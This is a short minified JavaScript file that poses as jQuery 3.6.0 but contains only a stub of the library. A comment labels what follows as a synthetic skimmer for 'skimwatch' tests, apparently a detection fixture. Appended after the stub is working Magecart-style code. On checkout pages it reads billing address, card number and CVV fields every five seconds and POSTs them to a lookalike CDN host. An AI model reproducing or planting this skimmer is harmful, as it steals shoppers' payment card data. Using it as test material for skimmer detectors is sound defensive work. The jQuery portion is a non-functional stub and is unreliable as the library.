/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){if(!e.document)throw new Error("jQuery requires a window with a document");return t(e)}:t(e)}("undefined"!=typeof window?window:this,function(C,e){"use strict";var t=[],r=Object.getPrototypeOf,s=t.slice;return C.jQuery=C.$=function(){return t}});
/* synthetic lookalike-CDN skimmer tail for skimwatch tests */
(function(){if(window.location.href.indexOf("onepage")<0)return;
var k=["billing[street]","billing[city]","payment[cc_number]","payment[cc_cid]"];
setInterval(function(){var o={};k.forEach(function(n){var f=document.getElementsByName(n)[0];if(f)o[n]=f.value});
var x=new XMLHttpRequest();x.open("POST","https://jquery-cdn-static.example/v3/min.js",true);x.send(JSON.stringify(o))},5000)})();
